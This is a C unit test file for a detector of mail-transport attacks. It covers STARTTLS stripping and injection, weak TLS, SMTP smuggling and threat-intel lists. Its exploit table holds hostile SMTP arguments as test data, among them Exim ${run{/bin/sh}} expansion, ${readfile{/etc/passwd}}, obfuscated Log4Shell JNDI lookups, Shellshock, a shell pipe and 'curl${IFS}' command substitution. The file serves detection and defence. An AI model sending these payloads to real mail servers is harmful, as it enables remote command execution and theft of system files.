/* test_detect_transport.c - detectors of transport security and of attacks in the text. */
#include "detect_fixture.h"

#include <time.h>

#define Q(name) SC_QUIRK_BIT(name)
#define HOME "192.0.2.0/24 example.org"

static void tls_session(struct stage *st, const char *starttls, uint64_t transactions, uint64_t quirks)
{
	static const sc_str offered[] = { { "PIPELINING", 10 }, { "STARTTLS", 8 } };
	struct sc_ev_session x = plain_session(st);
	x.starttls = starttls;
	x.capabilities = (struct sc_strs){ offered, strcmp(starttls, "not_offered") == 0 ? 1 : 2 };
	x.transactions = transactions;
	x.quirks = quirks;
	end_session(st, &x);
}

/* ---- STARTTLS ---- */

static void masked(struct stage *st) { tls_session(st, "stripped", 1, Q(masked_keyword)); }
/* So the session is told to whoever was offered STARTTLS before (story/servers.c): nothing was masked. */
static void offered_before(struct stage *st) { tls_session(st, "stripped", 1, 0); }
static void masked_other(struct stage *st) { tls_session(st, "established", 1, Q(masked_keyword)); }
static void offers(struct stage *st, unsigned n)
{
	for (unsigned i = 0; i < n; i++) {
		from_number(st, i * 300);
		tls_session(st, i % 2 ? "established" : "offered_unused", 1, 0);
		pause_s(st, 600);
	}
	from_ip(st, "203.0.113.7");
}
static void offered_before_and_others(struct stage *st)
{
	offers(st, 6);
	offered_before(st);
	offers(st, 1);
}
static void to_nobody_since(struct stage *st) /* the server may have changed */
{
	offers(st, 6);
	tls_session(st, "not_offered", 1, 0);
}
static void not_to_one(struct stage *st)
{
	to_nobody_since(st);
	offers(st, 1);
}
static void not_once(struct stage *st) /* the same client gets it again */
{
	to_nobody_since(st);
	tls_session(st, "established", 1, 0);
}
static void four_offers(struct stage *st)
{
	offers(st, 4);
	tls_session(st, "not_offered", 1, 0);
}
static void reconfigured(struct stage *st)
{
	offers(st, 6);
	for (unsigned i = 0; i < 10; i++) {
		from_number(st, 70000 + i * 300);
		tls_session(st, "not_offered", 1, 0);
	}
}
static void never_offered(struct stage *st)
{
	for (unsigned i = 0; i < 50; i++)
		tls_session(st, "not_offered", 1, 0);
}
static void refused(struct stage *st) { tls_session(st, "refused", 1, 0); }
static void refused_with(struct stage *st, const char *phase, uint16_t code)
{
	struct sc_ev_failure f = { .scope = "session", .phase = phase, .code = code, .permanent = code >= 500 };
	tell_event(st, SC_EVENT_failure, &f);
	refused(st);
}
static void refused_4yz(struct stage *st) { refused_with(st, "starttls", 454); }
static void refused_5yz(struct stage *st) { refused_with(st, "starttls", 554); }
static void refused_other_phase(struct stage *st) { refused_with(st, "mail", 454); }
static void refused_4yz_to_one(struct stage *st)
{
	offers(st, 12);
	refused_with(st, "starttls", 454);
}
static void refused_5yz_to_one(struct stage *st)
{
	offers(st, 12);
	refused_with(st, "starttls", 502);
}
/* The code of another session says nothing about this one. */
static void refused_code_of_another(struct stage *st)
{
	struct sc_ev_failure f = { .scope = "session", .phase = "starttls", .code = 454 };
	tell_event(st, SC_EVENT_failure, &f);
	new_session(st);
	refused(st);
}
static void refused_to_one(struct stage *st)
{
	offers(st, 12);
	refused(st);
}
static void refused_unoffered(struct stage *st)
{
	struct sc_ev_session x = plain_session(st);
	static const sc_str other = { "PIPELINING", 10 };
	x.starttls = "refused";
	x.capabilities = (struct sc_strs){ &other, 1 };
	end_session(st, &x);
}
static void helo_only(struct stage *st)
{
	offers(st, 6);
	struct sc_ev_session x = plain_session(st);
	x.helo.verb = "HELO";
	end_session(st, &x);
}
static void long_ago(struct stage *st)
{
	offers(st, 6);
	pause_s(st, 3 * 86400);
	tls_session(st, "not_offered", 1, 0);
}
static void not_to_one_lossy(struct stage *st)
{
	offers(st, 6);
	st->evidence.gap_octets.server = 50;
	tls_session(st, "not_offered", 1, 0);
}

static void unused(struct stage *st)
{
	tls_session(st, "established", 1, 0);
	pause_s(st, 86400);
	tls_session(st, "offered_unused", 1, 0);
}
static void unused_other(struct stage *st)
{
	tls_session(st, "established", 1, 0);
	from_ip(st, "203.0.113.8");
	tls_session(st, "offered_unused", 1, 0);
}
static void unused_no_mail(struct stage *st)
{
	tls_session(st, "established", 1, 0);
	tls_session(st, "offered_unused", 0, 0);
}
static void never_used(struct stage *st)
{
	tls_session(st, "offered_unused", 1, 0);
	tls_session(st, "offered_unused", 1, 0);
}

static void glued(struct stage *st, struct sc_ev_glued glued)
{
	exchange(st, "STARTTLS", NULL, 220, 0);
	struct sc_ev_session x = plain_session(st);
	x.glued = glued;
	end_session(st, &x);
}

static void injected(struct stage *st)
{
	glued(st, (struct sc_ev_glued){.client = 30, .words = {"MAIL", 4}});
}
static void injected_octets(struct stage *st)
{
	glued(st, (struct sc_ev_glued){.client = 3});
}
static void injected_reply(struct stage *st)
{
	glued(st, (struct sc_ev_glued){.server = 14, .words = {"250 ok", 6}});
}
static void empty_line(struct stage *st)
{
	glued(st, (struct sc_ev_glued){.client = 2, .words = {"", 0}});
}
static void clean_switch(struct stage *st)
{
	exchange(st, "STARTTLS", NULL, 220, 0);
	plain(st, 1, 0);
}
static void plain_later(struct stage *st)
{
	exchange(st, "STARTTLS", NULL, 220, 0);
	exchange(st, "MAIL", "FROM:<a@example.org>", 250, 0);
	plain(st, 1, Q(plaintext_after_starttls));
}

static void handshake(struct stage *st, const char *version, const char *cipher, const char *alert, sc_time not_after)
{
	struct sc_ev_tls x = { .via = "starttls", .version = version, .cipher = cipher, .established = !alert,
		.alert = { alert ? "client" : NULL, 0, alert }, .certificate = { .not_before = SC_TIME_NONE, .not_after = not_after } };
	tell_event(st, SC_EVENT_tls, &x);
}
static void failures(struct stage *st, unsigned n, unsigned apart_s)
{
	for (unsigned i = 0; i < n; i++) {
		handshake(st, NULL, NULL, "bad_certificate", SC_TIME_NONE);
		tls_session(st, "handshake_failed", 0, 0);
		pause_s(st, apart_s);
	}
}
static void failed_3(struct stage *st)
{
	failures(st, 3, 60);
	const struct found *f = first_found(st, "tls_failed", NULL);
	assert_non_null(f);
	assert_non_null(strstr(f->text, "bad_certificate"));
}
static void failed_2(struct stage *st) { failures(st, 2, 60); }
static void failed_rarely(struct stage *st) { failures(st, 20, 1500); }
static void failed_each_once(struct stage *st)
{
	for (uint32_t i = 0; i < 50; i++) {
		from_number(st, i);
		failures(st, 1, 1);
	}
}
static void failed_once(struct stage *st) { tls_session(st, "handshake_failed", 0, 0); }
static void failed_flood(struct stage *st) { flood(st, failed_once, 6); }

static void tls10(struct stage *st) { handshake(st, "TLSv1.0", "TLS_RSA_WITH_AES_128_CBC_SHA", NULL, SC_TIME_NONE); }
static void rc4(struct stage *st) { handshake(st, "TLSv1.2", "TLS_RSA_WITH_RC4_128_SHA", NULL, SC_TIME_NONE); }
static void des3(struct stage *st) { handshake(st, "TLSv1.2", "TLS_RSA_WITH_3DES_EDE_CBC_SHA", NULL, SC_TIME_NONE); }
static void tls13(struct stage *st) { handshake(st, "TLSv1.3", "TLS_AES_256_GCM_SHA384", NULL, SC_TIME_NONE); }
static void anonymous(struct stage *st) { handshake(st, "TLSv1.2", "TLS_ECDH_anon_WITH_AES_256_CBC_SHA", NULL, SC_TIME_NONE); }
static void tls10_failed(struct stage *st) { handshake(st, "TLSv1.0", NULL, "protocol_version", SC_TIME_NONE); }
static void expired(struct stage *st) { handshake(st, "TLSv1.2", "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", NULL, T0 - SC_SECOND); }
static void valid(struct stage *st) { handshake(st, "TLSv1.2", "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", NULL, T0 + SC_SECOND); }

static void content(struct stage *st, uint64_t quirks)
{
	struct sc_ev_recipient r = { .rcpt_to = SC_STR("b@example.org"), .code = 250, .outcome = "accepted" };
	struct sc_ev_transaction x = { .n = 1, .mail_from = SC_STR("a@example.net"), .recipients = { &r, 1 }, .size = 100,
		.outcome = "accepted", .quirks = quirks };
	tell_event(st, SC_EVENT_transaction, &x);
}
static void smuggled(struct stage *st) { content(st, Q(eod_lookalike) | Q(eod_commands) | Q(eod_other)); }
static void smuggling_tried(struct stage *st) { content(st, Q(eod_lookalike) | Q(eod_commands)); }
static void bare_lf_client(struct stage *st) { content(st, Q(eod_lookalike) | Q(eod_other)); }
static void lookalike_only(struct stage *st) { content(st, Q(eod_lookalike)); }

static void expansion(struct stage *st) { exchange(st, "RCPT", "TO:<${run{x}}@localhost>", 550, 0); }
static void sign_alone(struct stage *st) { exchange(st, "RCPT", "TO:<cash$@example.org>", 250, 0); }
static void security_report(struct stage *st)
{
	struct sc_ev_message x = { .n = 1, .subject = SC_STR("about ${jndi:ldap://192.0.2.1/a}"), .complete = true };
	tell_event(st, SC_EVENT_message, &x);
}
static void list_line(struct stage *st, const char *line)
{
	char room[200];
	struct sc_text why = sc_text_into(room, sizeof(room));
	assert_true(sc_detect_settings_intel(st->settings, sc_str_of(line), &why));
	plain(st, 1, 0);
}
static void on_the_list(struct stage *st) { list_line(st, "203.0.113.0/24 bad network"); }
static void beside_the_network(struct stage *st) { list_line(st, "203.0.113.8/29 bad network"); }
static void label_alone(struct stage *st) { list_line(st, "evil.example seen from 203.0.113.7"); }

static void test_scenes(void **state)
{
	(void)state;
	static const struct scene scenes[] = {
		{ "an expansion", "exploit", HOME, expansion, "high" },
		{ "a sign alone", "exploit", HOME, sign_alone, NULL },
		{ "a security report", "exploit", HOME, security_report, "low" },
		{ "on the list", "intel", HOME, on_the_list, "medium" },
		{ "beside the network", "intel", HOME, beside_the_network, NULL },
		{ "a label alone", "intel", HOME, label_alone, NULL },
		{ "masked", "starttls_stripped", HOME, masked, "high" },
		{ "another word masked", "starttls_stripped", HOME, masked_other, "medium" },
		{ "offered before", "starttls_stripped", HOME, offered_before, NULL },
		{ "offered before, and to others", "starttls_stripped", HOME, offered_before_and_others, "high" },
		{ "not to one", "starttls_stripped", HOME, not_to_one, "high" },
		{ "to nobody since", "starttls_stripped", HOME, to_nobody_since, "medium" },
		{ "not once", "starttls_stripped", HOME, not_once, "medium" },
		{ "refused", "starttls_stripped", HOME, refused, "low" },
		{ "refused to one", "starttls_stripped", HOME, refused_to_one, "low" },
		{ "refused with 4yz", "starttls_stripped", HOME, refused_4yz, NULL },
		{ "refused with 5yz", "starttls_stripped", HOME, refused_5yz, "medium" },
		{ "another command refused with 4yz", "starttls_stripped", HOME, refused_other_phase, "low" },
		{ "refused to one with 4yz", "starttls_stripped", HOME, refused_4yz_to_one, NULL },
		{ "refused to one with 5yz", "starttls_stripped", HOME, refused_5yz_to_one, "high" },
		{ "another session's code", "starttls_stripped", HOME, refused_code_of_another, "low" },
		{ "refused, not offered", "starttls_stripped", HOME, refused_unoffered, NULL },
		{ "four offers", "starttls_stripped", HOME, four_offers, NULL },
		{ "never offered", "starttls_stripped", HOME, never_offered, NULL },
		{ "HELO", "starttls_stripped", HOME, helo_only, NULL },
		{ "long ago", "starttls_stripped", HOME, long_ago, NULL },
		{ "seen in part", "starttls_stripped", HOME, not_to_one_lossy, NULL },
		{ "unused", "starttls_unused", HOME, unused, "low" },
		{ "another client", "starttls_unused", HOME, unused_other, NULL },
		{ "no mail", "starttls_unused", HOME, unused_no_mail, NULL },
		{ "never used", "starttls_unused", HOME, never_used, NULL },
		{ "commands", "starttls_injection", HOME, injected, "high" },
		{ "octets", "starttls_injection", HOME, injected_octets, "high" },
		{ "a reply", "starttls_injection", HOME, injected_reply, "high" },
		{ "an empty line", "starttls_injection", HOME, empty_line, "low" },
		{ "a clean switch", "starttls_injection", HOME, clean_switch, NULL },
		{ "plain text went on", "starttls_injection", HOME, plain_later, NULL },
		{ "three", "tls_failed", HOME, failed_3, "low" },
		{ "two", "tls_failed", HOME, failed_2, NULL },
		{ "rarely", "tls_failed", HOME, failed_rarely, NULL },
		{ "each once", "tls_failed", HOME, failed_each_once, NULL },
		{ "flood", "tls_failed", HOME, failed_flood, "low" },
		{ "TLS 1.0", "tls_weak", HOME, tls10, "low" },
		{ "RC4", "tls_weak", HOME, rc4, "low" },
		{ "3DES", "tls_weak", HOME, des3, "low" },
		{ "TLS 1.3", "tls_weak", HOME, tls13, NULL },
		{ "anonymous", "tls_weak", HOME, anonymous, "info" },
		{ "refused TLS 1.0", "tls_weak", HOME, tls10_failed, NULL },
		{ "expired", "tls_weak", HOME, expired, "low" },
		{ "valid", "tls_weak", HOME, valid, NULL },
		{ "carried out", "smtp_smuggling", HOME, smuggled, "critical" },
		{ "tried", "smtp_smuggling", HOME, smuggling_tried, "high" },
		{ "LF.LF of a clumsy client", "smtp_smuggling", HOME, bare_lf_client, NULL },
		{ "a look-alike", "smtp_smuggling", HOME, lookalike_only, NULL },
	};
	PLAY_FIXTURES("transport", scenes);
}

/* At first one client is left out, then it turns out that nobody gets an offer: told once, of the server. */
static void test_reconfigured_server(void **state)
{
	(void)state;
	struct stage *st = calloc(1, sizeof(*st));
	stage_open(st, "starttls_stripped", HOME);
	reconfigured(st);
	const struct found *server = first_found(st, "starttls_stripped", "192.0.2.25:25");
	assert_non_null(server);
	assert_string_equal(server->severity, "medium");
	assert_true(st->found_count <= 4);
	for (size_t i = 0; i < st->found_count; i++)
		assert_string_not_equal(st->found[i].severity, "high");
	stage_close(st);
	free(st);
}

/* ---- exploits ---- */

static const struct { const char *verb, *argument; const char *severity; uint16_t code; } attacks[] = {
	{ "RCPT", "TO:<${run{\\x2Fbin\\x2Fsh}}@localhost>", "critical", 250 },
	{ "RCPT", "TO:<${run{\\x2Fbin\\x2Fsh}}@localhost>", "high", 550 },
	{ "RCPT", "TO:<${RUN{x}}@localhost>", "high", 550 },
	{ "MAIL", "FROM:<${readfile{/etc/passwd}}@x>", "high", 501 },
	{ "EHLO", "${jndi:ldap://192.0.2.1/a}", "critical", 250 },
	{ "EHLO", "${${lower:j}ndi:ldap://192.0.2.1/a}", "critical", 250 },
	{ "EHLO", "${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}", "critical", 250 },
	{ "EHLO", "${${upper:jn}${env:NaN:-di}:dns://192.0.2.1}", "high", 501 },
	{ "HELO", "() { :;}; /bin/true", "high", 501 },
	{ "MAIL", "FROM:<;for i in 0 1 2;do read r;done;sh;exit 0;>", "critical", 250 },
	{ "MAIL", "FROM:<;/bin/true>", "high", 553 },
	{ "RCPT", "TO:<\"a$(curl${IFS}192.0.2.1)\"@example.org>", "high", 550 },
	{ "RCPT", "TO:<root+:\"|touch /tmp/foo\"@example.org>", "high", 550 },
	{ "RCPT", "TO:<|/bin/sh>", "high", 550 },
	{ "MAIL", "FROM:<\"| /bin/mail x@example.net\">", "high", 501 },
	{ "RCPT", "TO:<`id`@example.org>", "high", 550 },
	{ "MAIL", "FROM:<a@example.org> AUTH=a+0Ab", "critical", 250 },
	{ "MAIL", "FROM:<a@example.org> AUTH=a+0Ab", "high", 501 },
	{ "RCPT", "TO:<a@example.org> ORCPT=rfc822;a+0D+0Ab", "critical", 250 },
	{ "RCPT", "TO:<<><><><><><><><><><><><><><><><><><><><><>a@example.org>", "high", 550 },
	{ "XEXCH50", "-1 2", "high", 500 },
	{ "BDAT", "-1 LAST", "high", 501 },
	{ "BDAT", "x", "high", 501 },
	{ "BDAT", NULL, "high", 501 }, { "XEXCH50", "4294967295 2", "high", 500 }, { "RCPT", "TO:<decode>", "high", 550 },
	{ "BDAT", "99999999999999", "high", 501 },
	{ "WIZ", NULL, "high", 500 }, { "WIZ", NULL, "critical", 250 },
	{ "DEBUG", NULL, "high", 500 },
};

static const struct { const char *verb, *argument; } innocent[] = {
	{ "RCPT", "TO:<o'hara;x@example.org>" }, { "MAIL", "FROM:<a+b@example.org> SIZE=100 BODY=8BITMIME" },
	{ "MAIL", "FROM:<prvs=1234abcd=user@example.org>" }, { "MAIL", "FROM:<SRS0=ab+0Ac=XY=example.net=u@example.org>" },
	{ "RCPT", "TO:<user+0A@example.org>" }, { "RCPT", "TO:<a@example.org> ORCPT=rfc822;a+2B0A@example.org NOTIFY=NEVER" },
	{ "EHLO", "mail.example.org" }, { "EHLO", "[192.0.2.1]" }, { "BDAT", "0 LAST" }, { "BDAT", "1048576" }, { "BDAT", "86 LAST" },
	{ "RCPT", "TO:<\"john (home)\"@example.org>" }, { "RCPT", "TO:<cash$@example.org>" }, { "RCPT", "TO:<a|b@example.org>" }, { "RCPT", "TO:<decode@example.org>" },
	{ "XEXCH50", "1024 2" },
	{ "MAIL", "FROM:<> SIZE=10" }, { "RCPT", "TO:<bounce+$bin@example.org>" }, { "VRFY", "ann" }, { "AUTH", "*" }, { "SASL", "*" },
	{ "MAIL", "FROM:<a@example.org> ENVID=QQ+3D314159" }, { "HELO", "" }, { "MAIL", "" },
};

static const struct found *play_attack(struct stage *st, const char *verb, const char *argument, uint16_t code)
{
	stage_open(st, "exploit", HOME);
	exchange(st, verb, argument, code, 0);
	return st->found_count ? &st->found[0] : NULL;
}

static void test_exploits(void **state)
{
	(void)state;
	struct stage *st = calloc(1, sizeof(*st));
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		const struct found *f = play_attack(st, attacks[i].verb, attacks[i].argument, attacks[i].code);
		if (!f || strcmp(f->severity, attacks[i].severity) != 0)
			fail_msg("%s %s: %s instead of %s", attacks[i].verb, attacks[i].argument, f ? f->severity : "silence",
				 attacks[i].severity);
		stage_close(st);
	}
	for (size_t i = 0; i < sizeof(innocent) / sizeof(innocent[0]); i++) {
		const struct found *f = play_attack(st, innocent[i].verb, innocent[i].argument, 250);
		if (f)
			fail_msg("%s %s: %s", innocent[i].verb, innocent[i].argument, f->text);
		stage_close(st);
	}
	free(st);
}

static void test_exploits_by_length(void **state)
{
	(void)state;
	char name[1100], chunk[600];
	memset(name, 'a', sizeof(name));
	memset(chunk, 'a', sizeof(chunk));
	struct stage *st = calloc(1, sizeof(*st));
	name[1025] = '\0';
	assert_non_null(play_attack(st, "EHLO", name, 501));
	stage_close(st);
	name[1024] = '\0';
	assert_null(play_attack(st, "EHLO", name, 501));
	stage_close(st);
	chunk[521] = '\0';
	assert_non_null(play_attack(st, "X-LINK2STATE", chunk, 500));
	stage_close(st);
	chunk[520] = '\0';
	assert_null(play_attack(st, "X-LINK2STATE", chunk, 500));
	stage_close(st);
	free(st);
}

static void subject(struct stage *st, const char *text)
{
	struct sc_ev_message x = { .n = 1, .message_id = SC_STR("<x@example.net>"), .from = SC_STR("a@example.net"),
		.subject = sc_str_of(text), .complete = true };
	tell_event(st, SC_EVENT_message, &x);
}

static void test_exploits_in_messages(void **state)
{
	(void)state;
	static const struct { const char *subject, *severity; } cases[] = {
		{ "test ${jndi:ldap://192.0.2.1/a}", "low" }, { "CVE-2014-6271: () { :;}; echo", "low" },
		{ "invoice; please pay", NULL }, { "$100 (only today)", NULL }, { "re: a | b + c", NULL }, { "", NULL },
		{ "how to use $(date) in scripts", NULL },
	};
	struct stage *st = calloc(1, sizeof(*st));
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		stage_open(st, "exploit", HOME);
		subject(st, cases[i].subject);
		const char *got = st->found_count ? st->found[0].severity : NULL;
		if (got ? !cases[i].severity || strcmp(got, cases[i].severity) != 0 : cases[i].severity != NULL)
			fail_msg("\"%s\": %s", cases[i].subject, got ? got : "silence");
		stage_close(st);
	}
	free(st);
}

static void test_replies(void **state)
{
	(void)state;
	static const sc_str plain[] = {{"mx.example.org", 14}, {"SIZE\t1000", 9}}, odd[] = {{"mx.example.org", 14}, {"\x01|sh", 4}};
	static const struct { const sc_str *lines; uint32_t count; bool bad; } cases[] = {
		{ plain, 2, false }, { odd, 2, true }, { odd + 1, 1, false }, { NULL, 0, false },
	};
	struct stage *st = calloc(1, sizeof(*st));
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		stage_open(st, "exploit", HOME);
		struct sc_ev_exchange x = { .n = 1, .verb = SC_STR("EHLO"), .argument = SC_STR("h.example"), .code = 250,
			.text = { cases[i].lines, cases[i].count } };
		tell_event(st, SC_EVENT_exchange, &x);
		assert_int_equal(st->found_count > 0, cases[i].bad);
		if (cases[i].bad)
			assert_string_equal(st->found[0].severity, "high");
		stage_close(st);
	}
	free(st);
}

static void test_server_name(void **state)
{
	(void)state;
	static const struct { sc_str sni; bool bad; } cases[] = {
		{ { "mx.example.org\\", 15 }, true }, { { "mx\0x", 4 }, true }, { { "mx.example.org", 14 }, false }, { { NULL, 0 }, false },
	};
	struct stage *st = calloc(1, sizeof(*st));
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		stage_open(st, "exploit", HOME);
		struct sc_ev_tls x = { .via = "starttls", .sni = cases[i].sni };
		tell_event(st, SC_EVENT_tls, &x);
		assert_int_equal(st->found_count > 0, cases[i].bad);
		stage_close(st);
	}
	free(st);
}

/* ---- intelligence ---- */

static void test_intel(void **state)
{
	(void)state;
	static const struct { const char *line; bool good; } lines[] = {
		{ "203.0.113.0/24 bad network", true }, { "2001:db8::/32 other", true }, { "203.0.113.66 worse", true }, { "", true },
		{ "# comment", true }, { "evil.example botnet domain", true }, { "helo:ylmf-pc cutwail", true },
		{ "t13d1516h2_8daaf6152771_e5627efa2ab1 client", true },
		{ "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 sample", true }, { "nodots label", false },
		{ "203.0.113.0/33 x", false }, { "helo: x", false }, { "192.0.2.1/x y", false },
	};
	struct stage *st = calloc(1, sizeof(*st));
	stage_open(st, "intel", HOME);
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		char room[200];
		struct sc_text why = sc_text_into(room, sizeof(room));
		bool good = sc_detect_settings_intel(st->settings, sc_str_of(lines[i].line), &why);
		if (good != lines[i].good || (!good && !why.len))
			fail_msg("\"%s\" is %s", lines[i].line, good ? "taken" : "refused");
	}
	plain(st, 1, 0); /* 203.0.113.7 lies in the network */
	assert_int_equal(st->found_count, 1);
	assert_non_null(strstr(st->found[0].text, "bad network"));
	from_ip(st, "198.51.100.1");
	plain(st, 1, 0);
	assert_int_equal(st->found_count, 1);
	st->helo = "ylmf-pc";
	plain(st, 1, 0);
	assert_int_equal(st->found_count, 2);
	from_ip(st, "198.51.100.2");
	mail(st, "x@sub.evil.example", "a@example.org", "accepted", NULL);
	assert_int_equal(st->found_count, 3);
	mail(st, "x@notevil.example", "a@example.org", "accepted", NULL);
	assert_int_equal(st->found_count, 3);
	struct sc_ev_part part = { .sha256 = SC_STR("E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"), .size = 10 };
	struct sc_ev_message x = { .n = 1, .parts = { &part, 1 } };
	from_ip(st, "198.51.100.3");
	tell_event(st, SC_EVENT_message, &x);
	assert_int_equal(st->found_count, 4);
	stage_close(st);
	free(st);
}

/* Domains of a list in links and header fields; what is only in a path or a name beside them says nothing. */
static void test_intel_in_messages(void **state)
{
	(void)state;
	static const struct { const char *from, *reply_to, *url; bool found; } cases[] = {
		{ NULL, NULL, "http://evil.example", true }, { NULL, NULL, "https://login.EVIL.example/path?x=1", true },
		{ NULL, NULL, "https://me:secret@evil.example:8443/", true }, { NULL, NULL, "http://evil.example?x", true },
		{ "Ann <ann@evil.example>", NULL, NULL, true }, { NULL, "ann@mail.evil.example", NULL, true },
		{ NULL, NULL, "https://notevil.example/", false }, { NULL, NULL, "https://example.net/evil.example", false },
		{ NULL, NULL, "https://evil.example@example.net/", false }, { NULL, NULL, "https://example.net#//evil.example", false },
		{ "evil.example <ann@example.net>", NULL, NULL, false }, { NULL, NULL, "", false }, { NULL, NULL, "//", false },
	};
	struct stage *st = calloc(1, sizeof(*st));
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		stage_open(st, "intel", HOME);
		list_line(st, "evil.example botnet");
		sc_str url = sc_str_of(cases[i].url);
		struct sc_ev_message x = { .n = 1, .from = sc_str_of(cases[i].from), .reply_to = sc_str_of(cases[i].reply_to),
			.urls = { &url, url.at != NULL } };
		tell_event(st, SC_EVENT_message, &x);
		if ((st->found_count == 1) != cases[i].found)
			fail_msg("case %zu: %s", i, cases[i].found ? "missed" : "told");
		stage_close(st);
	}
	free(st);
}

/* Ten million octets of commands and header fields as people write them, with dollars, pipes and brackets: silence. */
static void test_clean_mail(void **state)
{
	(void)state;
	static const char *const subjects[] = { "Re: costs $5 (really); see below | Ann", "A `quoted` word and a + sign", "(){ }", "100% sure; O'Hara",
		"[list] ${ is no end", "$(pwd) is what I typed" };
	static const char *const paths[] = { "FROM:<o'hara+tag@example.org> SIZE=5000 BODY=8BITMIME", "FROM:<bounce+a=example.org@example.net>",
		"FROM:<prvs=12345=ann@example.org>", "FROM:<SRS0=ab=cd=example.org=ann@example.net>" };
	struct stage *st = calloc(1, sizeof(*st));
	stage_open(st, "exploit", HOME);
	for (size_t octets = 0, i = 0; octets < 10000000; i++) {
		char subject[120];
		int len = snprintf(subject, sizeof(subject), "%s, number %zu, with some more words to fill the line", subjects[i % 6], i);
		struct sc_ev_message x = { .n = 1, .from = SC_STR("ann@example.org"), .subject = { subject, (size_t)len } };
		exchange(st, "MAIL", paths[i % 4], 250, 0);
		tell_event(st, SC_EVENT_message, &x);
		new_session(st);
		octets += (size_t)len + strlen(paths[i % 4]);
	}
	if (st->found_count)
		show_found(st);
	assert_int_equal(st->found_count, 0);
	stage_close(st);
	free(st);
}

/* Thread time for `n` commands of `octets` that nearly match everything, the best of seven. */
static double spend(struct stage *st, size_t n, size_t octets)
{
	char *text = malloc(octets + 1);
	double best = 1e9;
	for (size_t i = 0; i < octets; i++)
		text[i] = "${${lower:j}ndi}() `|;$(+0"[i % 26];
	text[octets] = '\0';
	for (unsigned round = 0; round < 7; round++) {
		struct timespec a, b;
		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &a);
		for (size_t i = 0; i < n; i++)
			exchange(st, "HELO", text, 500, 0);
		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &b);
		double s = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
		best = s < best ? s : best;
	}
	free(text);
	return best;
}

/* Ten times the text, in longer lines or in more of them, takes about ten times the time. */
static void test_exploit_is_linear(void **state)
{
	(void)state;
	struct stage *st = calloc(1, sizeof(*st));
	stage_open(st, "exploit", HOME);
	double once = spend(st, 2000, 100), more = spend(st, 20000, 100), longer = spend(st, 2000, 1000);
	if (more > 25 * once || longer > 25 * once)
		fail_msg("%.6f s, ten times as many %.6f s, ten times as long %.6f s", once, more, longer);
	stage_close(st);
	free(st);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_scenes), cmocka_unit_test(test_replies), cmocka_unit_test(test_intel_in_messages), cmocka_unit_test(test_clean_mail),
		cmocka_unit_test(test_exploit_is_linear),        cmocka_unit_test(test_reconfigured_server),
		cmocka_unit_test(test_exploits),      cmocka_unit_test(test_exploits_by_length),
		cmocka_unit_test(test_exploits_in_messages), cmocka_unit_test(test_server_name),
		cmocka_unit_test(test_intel),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
